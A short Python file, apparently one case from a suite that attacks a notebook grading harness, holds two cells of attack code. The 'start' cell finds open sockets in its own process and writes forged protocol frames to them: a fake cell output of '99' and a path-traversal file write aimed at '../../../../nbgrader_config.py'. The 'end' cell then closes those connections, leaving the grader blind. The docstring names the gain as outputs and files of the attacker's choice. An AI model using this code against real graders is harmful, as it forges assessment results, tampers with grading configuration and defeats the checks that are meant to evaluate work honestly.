"""The notebook's own process answers for its cells, hands out other connections, and hangs up.

Gain: outputs and files of its choice, and a grader that does not know where it is.
"""

CELLS = {
    "start": """
import os, stat, struct

def send(tree):
    try:
        import msgpack
    except ImportError:
        return
    packed = msgpack.packb(tree)
    head = struct.pack("<IQQ", 0, len(packed) + 8, len(packed))
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                os.write(number, b"nn01" + head + packed)
        except OSError:
            continue

shown = '[{"output_type": "execute_result", "data": {"text/plain": "99"}, "metadata": {}}]'
send([shown, 1, True])
send("ready")
send(12345)
send([["../../../../nbgrader_config.py", b"x"], ["hw02_linear_regression.ipynb", b"{}"]])
""",
    "end": """
for number in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            os.close(number)
    except OSError:
        continue
""",
}
